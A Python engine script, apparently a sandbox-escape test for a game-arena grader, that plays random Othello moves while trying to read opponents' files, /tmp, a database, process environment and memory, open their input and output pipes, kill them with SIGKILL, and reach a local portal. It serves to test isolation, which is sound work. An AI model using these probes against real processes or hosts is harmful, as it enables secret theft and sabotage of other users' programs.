"""Attacker: an arena engine's move script (for the bundled NBoard adapter, engine.py) that,
while it plays legal random moves on a worker, tries to read its opponent's staged files, files
the grader left open in its process, the portal's database and course folder, and its
opponent's process (command line, environment, open files, output pipe, memory), to write to
the opponent's input and kill it, and to reach the portal; a thread of its own watches /proc
the whole time for the opponent's process.

At the first move of each game it prints what it got as NBoard status lines, which the game's
record keeps: ``status probe NAME got ...`` or ``status probe NAME none ...``, and
``status leak WHERE TEXT`` for any secret (``s3cr3t-`` and hex digits) in what it read.

The test replaces the placeholders (the database's path, the course folder, the portal's
port); the opponent's process is the one whose command line holds OPPONENT. Left with the
placeholders, it reads nothing of theirs.
"""

import glob
import os
import random
import re
import signal
import socket
import sys
import threading
import time

DATABASE = "ARENA-SPY-DATABASE"
COURSE = "ARENA-SPY-COURSE"
PORT = "ARENA-SPY-PORT"
OPPONENT = b"arena-victim"  # in the opponent's command line: how its process is found
SECRET = re.compile(rb"s3cr3t-[0-9a-f]{8,}")
HERE = os.path.dirname(os.path.realpath(__file__))
OWN = (HERE + os.sep, os.path.realpath(os.environ.get("HOME", HERE)) + os.sep)  # its own folder and work folder


def say(text):
    print(text[:200], flush=True)


def leaks(where, data):
    for found in sorted(set(SECRET.findall(data))):
        say("status leak %s %s" % (where, found.decode()))


def read(path, limit=1 << 20):
    with open(path, "rb") as f:
        return f.read(limit)


def opponents():
    """Pids of the visible processes whose command line holds OPPONENT (not this process)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if int(pid) != os.getpid() and OPPONENT in read("/proc/%s/cmdline" % pid):
                found.append(int(pid))
        except OSError:
            pass
    return found


seen = {"scans": 0, "sightings": 0}


def watch():
    """Look for the opponent's process all the time, not only on this engine's turn."""
    while True:
        seen["scans"] += 1
        seen["sightings"] += bool(opponents())
        time.sleep(0.01)


threading.Thread(target=watch, daemon=True).start()


def probe(name, attempt):
    """Run ``attempt`` (what it got, or None) and say how it went."""
    try:
        got = attempt()
    except Exception as e:  # refused: what the sandbox should answer
        say("status probe %s none (%s)" % (name, type(e).__name__))
        return None
    say("status probe %s %s" % (name, "got %s" % got if got else "none"))
    return got


def inherited():
    """Files the grader left open in its process (a database's, a socket)."""
    got = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink("/proc/self/fd/" + fd)
        except OSError:
            continue
        if int(fd) > 2 and not (target + "/").startswith("/proc/"):  # not a listing of its own (its watcher's)
            got.append("%s:%s" % (fd, target[:40]))
    return got and " ".join(got)


def stage():
    """The opponent's staged copy: the folders beside this engine's own."""
    others = [p for p in glob.glob(os.path.join(os.path.dirname(HERE), "*")) if os.path.realpath(p) != HERE]
    others += [p for p in glob.glob("/tmp/grader-scripts-*/*") if not (p + os.sep).startswith(OWN)]
    read_ = 0
    for folder in others:
        for path in glob.glob(os.path.join(folder, "**", "*"), recursive=True):
            if os.path.isfile(path):
                leaks("stage", read(path))
                read_ += 1
    return others and "%d folders, %d files" % (len(others), read_)


def tmp():
    """Every file in /tmp itself that is not its own (what another run could leave there; not
    the read-only views mounted below it, as the grader's own files are where it is under /tmp)."""
    read_ = 0
    device = os.stat("/tmp").st_dev
    for root, _, files in os.walk("/tmp"):
        for name in files:
            path = os.path.join(root, name)
            if (
                read_ < 300
                and os.path.isfile(path)
                and not os.path.realpath(path).startswith(OWN)
                and os.stat(path).st_dev == device
            ):
                try:
                    leaks("tmp", read(path))
                    read_ += 1
                except OSError:
                    pass
    return read_ and "%d files" % read_


def database():
    if DATABASE.startswith("ARENA-SPY"):
        return None
    data = read(DATABASE, 1 << 26)
    leaks("database", data)
    with open(DATABASE, "ab"):  # opened for writing, nothing written
        pass
    return "%d bytes, writable" % len(data)


def course():
    if COURSE.startswith("ARENA-SPY"):
        return None
    names = os.listdir(COURSE)
    for name in names:
        if os.path.isfile(os.path.join(COURSE, name)):
            leaks("course", read(os.path.join(COURSE, name)))
    return "%d entries" % len(names)


def portal():
    if PORT.startswith("ARENA-SPY"):
        return None
    with socket.create_connection(("127.0.0.1", int(PORT)), timeout=2) as s:
        s.sendall(b"GET /signin HTTP/1.0\r\n\r\n")
        return "answered %r" % s.recv(64)[:20]


def each(pids, what):
    """``what(pid)`` for every opponent pid: what it got of each (None: nothing got)."""

    def attempt():
        got = [str(what(pid)) for pid in pids]
        return got and ", ".join(got)

    return attempt


def fds(pid):
    return sorted(os.listdir("/proc/%d/fd" % pid))


def stdout(pid):
    """Steal the opponent's output (its moves) from its pipe."""
    fd = os.open("/proc/%d/fd/1" % pid, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return "opened its output"
    finally:
        os.close(fd)


def stdin(pid):
    """Tell the opponent something of its own (a move it did not get from the grader)."""
    fd = os.open("/proc/%d/fd/0" % pid, os.O_WRONLY | os.O_NONBLOCK)
    try:
        return "opened its input"
    finally:
        os.close(fd)


def memory(pid):
    maps = read("/proc/%d/maps" % pid).decode().splitlines()
    got = 0
    with open("/proc/%d/mem" % pid, "rb") as mem:
        for line in maps:
            if "rw-p" in line:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                try:
                    mem.seek(start)
                    data = mem.read(min(end - start, 1 << 22))
                except (OSError, OverflowError, ValueError):
                    continue
                leaks("memory", data)
                got += len(data)
    return got and "%d bytes" % got


def spy():
    """Every attempt, once per game."""
    probe("stage", stage)
    probe("inherited", inherited)
    probe("tmp", tmp)
    probe("database", database)
    probe("course", course)
    probe("portal", portal)
    pids = probe("opponent", opponents)
    pids = pids or []
    probe("cmdline", each(pids, lambda pid: leaks("cmdline", read("/proc/%d/cmdline" % pid)) or "read"))
    probe("environ", each(pids, lambda pid: leaks("environ", read("/proc/%d/environ" % pid)) or "read"))
    probe("fd", each(pids, fds))
    probe("stdout", each(pids, stdout))
    probe("stdin", each(pids, stdin))
    probe("memory", each(pids, memory))
    probe("kill", each(pids, lambda pid: os.kill(pid, signal.SIGKILL) or "killed"))
    say("status probe watch %s (%d scans)" % ("got" if seen["sightings"] else "none", seen["scans"]))


last = [0]


def choose(board, token):
    """A random legal move (the adapter's rules); the probes at the first move of each game."""
    empties = board.count(".")
    if empties > last[0]:  # more empty squares than at its last move: a new game
        spy()
    last[0] = empties
    time.sleep(0.02)  # its watching thread runs meanwhile (frozen or not, the rest of the time)
    flips = sys.modules["__main__"].flips
    moves = [sq for sq in range(64) if board[sq] == "." and flips(board, sq, token)]
    return random.choice(moves) if moves else None
